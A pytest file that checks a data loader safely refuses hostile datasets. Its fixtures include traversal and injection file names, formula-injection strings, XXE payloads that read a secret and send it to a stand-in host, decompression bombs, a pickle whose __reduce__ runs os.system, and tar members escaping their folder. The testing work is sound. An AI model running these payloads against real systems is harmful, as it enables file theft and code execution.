"""Data by strangers: what is seen is used or refused by name, nothing leaves its folder, and names stay mere names."""

from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from PIL import Image

from ptlib import InputError, load_task
from ptlib.data import published
from ptlib.data.folder import read_classes
from tests.hostile import limited
from tests.test_dense_data import annotation, coco, picture, voc, write

SECRET = "the canary's own words"
NAMES = ("../x", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "$\\frac{1}{0}$", "$a$ $b$", "\\$", "_x",
         "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx", "'=1", "NA", "nan", "no", "01", "1e3", "", " ",
         "\u202egnp.exe", "\u200b", "é", "e\u0301", "ﬁ", "a\nb", 'say "x"', "a,b", "x" * 255, "Cat", "cat")  # fmt: skip


def noise(seed: int = 0) -> Image.Image:
    return Image.fromarray(np.random.default_rng(seed).integers(0, 256, (16, 16, 3), dtype=np.uint8))


def folder(root: Path, *classes: str, n: int = 12) -> Path:
    for k, name in enumerate(classes or ("a", "b")):
        (root / name).mkdir(parents=True)
        for i in range(n):
            noise(100 * k + i).save(root / name / f"{i}.png")
    return root


# Files: seen = used + skipped


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *more: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", b"\0" * 99) + chunk(b"IEND", b"")


def gif(width: int, height: int, frames: int) -> bytes:
    frame = b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\x00"
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0, 0, 0) + frame * frames + b";"


def as_format(name: str) -> bytes:
    noise().save(file := io.BytesIO(), name)
    return file.getvalue()


ZEROS = zlib.compress(b"\0" * 2**28, 9)  # a thousandth of what it unpacks to
FILES: dict[str, bytes | str] = {  # text: where a link points
    "eps.jpg": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(canary)(w)file\n", "pdf.jpg": b"%PDF-1.7\n1 0 obj",
    "svg.png": b"<svg xmlns='http://www.w3.org/2000/svg'><image href='file:///etc/passwd'/></svg>",
    "html.png": b"<html>", "empty.png": b"", "zip.png": b"PK\3\4", "elf.bmp": b"\x7fELF", "text.jpg": b"no image",
    **{f"{name}.jpg": as_format(name) for name in ("ICO", "PCX", "TGA", "JPEG2000", "EPS", "PDF", "SGI", "DDS")},
    "half.png": as_format("PNG")[:99], "large.png": png(60_000, 60_000), "wide.png": png(2**31 - 1, 1),
    "text.png": png(16, 16, chunk(b"zTXt", b"a\0\0" + ZEROS)), "icc.png": png(16, 16, chunk(b"iCCP", b"a\0\0" + ZEROS)),
    "utf8.png": png(16, 16, chunk(b"iTXt", b"a\0\1\0\0\0" + ZEROS)), "large.ppm": b"P6 99999 99999 255\nxx",
    "large.gif": gif(60_000, 60_000, 1), "frames.gif": gif(1, 1, 500_000), "large.bmp": b"BM" + struct.pack(
        "<IHHIIiiHHIIiiII", 99, 0, 0, 54, 40, 2**31 - 1, 2**31 - 1, 1, 24, 0, 0, 0, 0, 0, 0),
    "notes.txt": b"mine", "movie.mp4": b"\0", "itself.png": "itself.png", "nowhere.png": "nowhere",
    "device.png": "/dev/zero", "outside.png": "../../secret.png", "above.png": "../../../../../../../../etc/passwd",
    "latin \udce9.png": as_format("PNG"), "up\udce9.png": "../../secret.png",
}  # fmt: skip


def test_files_seen_are_files_used_and_files_refused_by_name(tmp_path: Path) -> None:
    root, roots = folder(tmp_path / "all"), dict[str, str]()
    noise().save(tmp_path / "secret.png")
    for name, content in FILES.items():
        for place in (root / "a", folder(tmp_path / f"one{len(roots)}", "a", "b", n=4) / "a"):
            (place / name).symlink_to(content) if isinstance(content, str) else (place / name).write_bytes(content)
        roots[name] = os.fspath(place.parent)
    task = load_task(str(root))
    listed = {path.removeprefix("a/") for path, _ in task.skipped}
    assert listed == {name.encode("utf-8", "backslashreplace").decode() for name in FILES}
    assert sum(map(len, task.splits)) + len(task.skipped) == 24 + len(FILES)
    assert all(reason for _, reason in task.skipped)
    str(task).encode()
    call = "[list(load_task(given).skipped), sum(map(len, load_task(given).splits))]"
    for name, found in limited(call, roots).items():
        assert found.error is None, (name, found)
        assert (len(found.said[0]), found.said[1], SECRET in str(found.said)) == (1, 8, False), (name, found)
        assert found.seconds < 2, (name, found)  # twice loaded
        assert found.peak < 2**28, (name, found)
    with pytest.warns(
        UserWarning, match=f"{len(FILES)} files of .* are left out; the first"
    ):  # where no task lists them
        assert len(read_classes(root)[1]) == 24


def test_names_of_folders(tmp_path: Path) -> None:
    names = sorted(name for name in NAMES if name not in ("../x", "") and "/" not in name)
    task = load_task(str(folder(tmp_path / "f", *names, n=3)))
    assert list(task.class_names) == names
    assert sum(map(len, task.splits)) == 3 * len(names)
    (tmp_path / "f" / "caf\udce9").mkdir()
    with pytest.raises(InputError, match=r"class folder 'caf\\udce9' of .* is not UTF-8; rename it"):
        load_task(str(tmp_path / "f"))


def typed(inside: str, body: str = "<annotation/>") -> str:
    return f"<?xml version='1.0'?><!DOCTYPE annotation {inside}>{body}"


FILE = "SYSTEM 'file://{secret}'"
XML = {
    "file": typed(f"[<!ENTITY x {FILE}>]", "<annotation><object><name>&x;</name></object></annotation>"),
    "parameter": typed(f"[<!ENTITY % p {FILE}> %p;]"),
    "type": typed(FILE),
    "public": typed(f"PUBLIC 'x' {FILE[7:]}"),
    "sent": typed(f"[<!ENTITY % p {FILE}><!ENTITY % q '<!ENTITY r SYSTEM \"http://x/%p;\">'>%q;]"),
    "attribute": typed("[<!ATTLIST annotation x CDATA 'y'>]"),
    "nothing": "",
    "zeros": "\0" * 9_999,
    "objects": f"<annotation>{'<object/>' * 500_000}</annotation>",
    "elements": f"<annotation>{'<a/>' * 1_200_000}</annotation>",
    "attributes": f"<annotation {' '.join(f'a{i}=``' for i in range(400_000))}/>".replace("`", '"'),
    "boxes": annotation(*[("dog", 1, 1, 5, 5)] * 5_001),
}


@pytest.mark.parametrize("name", XML)
def test_xml_is_refused_by_name_in_a_second(tmp_path: Path, name: str) -> None:
    (secret := tmp_path / "secret.txt").write_text(SECRET)
    root = voc(tmp_path / "set", **{name: XML[name].replace("{secret}", str(secret))})
    call = "list(load_task(given, kind='detection').skipped) + [str(load_task(given, kind='detection'))]"
    found = limited(call, {name: str(root)})[name]
    assert found.error is None, found
    assert found.said[0][0] == name
    assert len(found.said) == 2
    assert SECRET not in str(found.said)
    assert found.seconds < 2  # twice loaded
    assert found.peak < 2**28


def test_what_lies_beside_the_lists_is_listed_too(tmp_path: Path) -> None:
    root = voc(tmp_path / "voc")
    for path in (root / "ImageSets" / "Main").glob("*.txt"):
        path.unlink()
    picture(root / "JPEGImages" / "lonely.jpg")
    (root / "JPEGImages" / "x.heic").write_bytes(b"")
    task = load_task(str(root), kind="detection")
    assert dict(task.skipped) == {"JPEGImages/x.heic": "its name is not that of an image",
                                  "lonely": "Annotations/lonely.xml: there is no such file"}  # fmt: skip
    (tmp_path / "outside.txt").write_text("train0\n")
    (root / "labels.txt").symlink_to(tmp_path / "outside.txt")
    with pytest.raises(InputError, match=r"labels\.txt: it lies outside the folder"):
        load_task(str(root), kind="detection")
    (texts := tmp_path / "texts").mkdir()
    for split in ("train", "extra"):
        (texts / f"{split}.csv").write_text("text,label\n" + "good,a\nbad,b\n" * 9)
    assert dict(load_task(str(texts), kind="text_classification").skipped)["extra.csv"].startswith("it is no split")
    (texts / "test.csv").symlink_to(tmp_path / "outside.txt")
    with pytest.raises(InputError, match=r"test\.csv: it lies outside the folder"):
        load_task(str(texts), kind="text_classification")


def test_coco_names_categories_as_they_are(tmp_path: Path) -> None:
    files = coco(tmp_path, n=4)
    for content in files.values():
        content["categories"] += [{"id": 100 + i, "name": name} for i, name in enumerate(NAMES)]
    assert load_task(str(write(tmp_path, files)), kind="detection").class_names == ("car", "dog", "toothbrush", *NAMES)
    for content in files.values():
        content["categories"][-1]["name"] = "\ud800"
    with pytest.raises(InputError, match=r"the name of class '\\ud800' is not UTF-8"):
        load_task(str(write(tmp_path, files)), kind="detection")


# Archives


def members(outside: Path) -> dict[str, tarfile.TarInfo]:
    made = {name: tarfile.TarInfo(name) for name in ("../canary", str(outside), "VOCdevkit/../../canary")}
    for kind, to in ((tarfile.SYMTYPE, str(outside)), (tarfile.SYMTYPE, "../.."), (tarfile.LNKTYPE, "../secret.txt")):
        info = tarfile.TarInfo(f"link {len(made)}")
        info.type, info.linkname = kind, to
        made[info.name] = info
    for kind in (tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE):
        made[f"device {kind!r}"] = tarfile.TarInfo("device")
        made[f"device {kind!r}"].type = kind
    return made


@pytest.mark.parametrize("known", [False, True])
def test_archives_are_unpacked_if_they_are_the_published_ones_and_into_their_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, known: bool
) -> None:
    from torchvision.datasets import utils
    from torchvision.datasets.voc import DATASET_YEAR_DICT

    def offline(*a: object, **k: object) -> None:
        raise OSError("no network")

    monkeypatch.setattr(utils, "_urlretrieve", offline)
    (tmp_path / "secret.txt").write_text(SECRET)
    facts = DATASET_YEAR_DICT["2012"]
    for info in members(tmp_path / "canary").values():
        (data := tmp_path / f"data{len(list(tmp_path.iterdir()))}").mkdir()
        with tarfile.open(data / facts["filename"], "w") as tar:
            tar.addfile(info)
        if known:
            md5 = utils.calculate_md5(str(data / facts["filename"]))
            monkeypatch.setitem(DATASET_YEAR_DICT, "2012", {**facts, "md5": md5})
        with pytest.raises(InputError, match=r"voc2012 can't be had|has no folder Annotations"):
            load_task("voc2012", data, kind="detection")
        assert known or [path.name for path in data.iterdir()] == [facts["filename"]]
    assert {p.name for p in tmp_path.iterdir() if not p.name.startswith("data")} == {"secret.txt"}


def test_what_torchvision_would_unpack_or_unpickle_is_the_published_file_or_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from torchvision.datasets import utils

    def offline(*a: object, **k: object) -> None:
        raise OSError("no network")

    monkeypatch.setattr(utils, "_urlretrieve", offline)
    touch = type("Touch", (), {"__reduce__": lambda self: (os.system, (f"touch {tmp_path / 'canary'}",))})()
    for name, known in published.TORCHVISION.items():
        place = tmp_path / name / known.folder
        for inner in (place, *(place / f"cifar-{n}" for n in ("10-batches-py", "100-python"))):
            inner.mkdir(parents=True, exist_ok=True)
            for part in (
                "meta",
                "train",
                "test",
                "batches.meta",
                "test_batch",
                *(f"data_batch_{i}" for i in range(1, 6)),
            ):
                (inner / part).write_bytes(pickle.dumps(touch))
        for file, _, _ in known.files:
            with zipfile.ZipFile(place / file, "w") as z:
                z.writestr("../canary", "x")
            if "tar" in file or file.endswith("tgz"):
                with tarfile.open(place / file, "w:gz") as tar:
                    tar.addfile(tarfile.TarInfo("../canary"))
        with pytest.raises(InputError, match=f"^{name} can't be downloaded"):
            load_task(name, tmp_path / name)
    assert list(tmp_path.rglob("canary")) == []


def test_arrays_of_numpy_unpack_to_what_they_could_hold(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "bomb.npz", "w", zipfile.ZIP_DEFLATED) as z, z.open("logits.npy", "w") as f:
        np.lib.format.write_array_header_1_0(f, {"descr": "<f8", "fortran_order": False, "shape": (2**24, 2)})
        for _ in range(256):
            f.write(b"\0" * 2**20)
    with zipfile.ZipFile(tmp_path / "claim.npz", "w") as z, z.open("logits.npy", "w") as f:
        np.lib.format.write_array_header_1_0(f, {"descr": "<f8", "fortran_order": False, "shape": (2**44, 2)})
    np.savez(tmp_path / "pickle.npz", targets=np.array([print, None], dtype=object), logits=np.zeros((2, 2)))
    files = {name: str(tmp_path / f"{name}.npz") for name in ("bomb", "claim", "pickle")}
    call = "__import__('ptlib').read_predictions(given) and 1"
    for name, found in limited(call, files).items():
        assert (found.error, found.peak < 2**27) == ("InputError", True), (name, found)


def test_tables_and_scripts_of_others(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("pyarrow")
    rows = pd.DataFrame({"text": ["good", "bad"] * 10**6, "label": ["a", "b"] * 10**6})
    rows.to_parquet(tmp_path / "rows.parquet", compression="zstd", index=False)
    (tmp_path / "evil").mkdir()
    (tmp_path / "evil" / "evil.py").write_text(f"open({str(tmp_path / 'canary')!r}, 'w')\n")
    (tmp_path / "evil" / "train.csv").write_text("text,label\n" + "good,a\nbad,b\n" * 9)
    monkeypatch.chdir(tmp_path)
    for name, says in (("rows.parquet", "claims more rows than it has bytes"), ("hf:evil", "can't be loaded"),
                       (f"hf:{tmp_path}/evil", "can't be loaded")):  # fmt: skip
        with pytest.raises(InputError, match=says):
            load_task(name, kind="text_classification")
    assert not (tmp_path / "canary").exists()
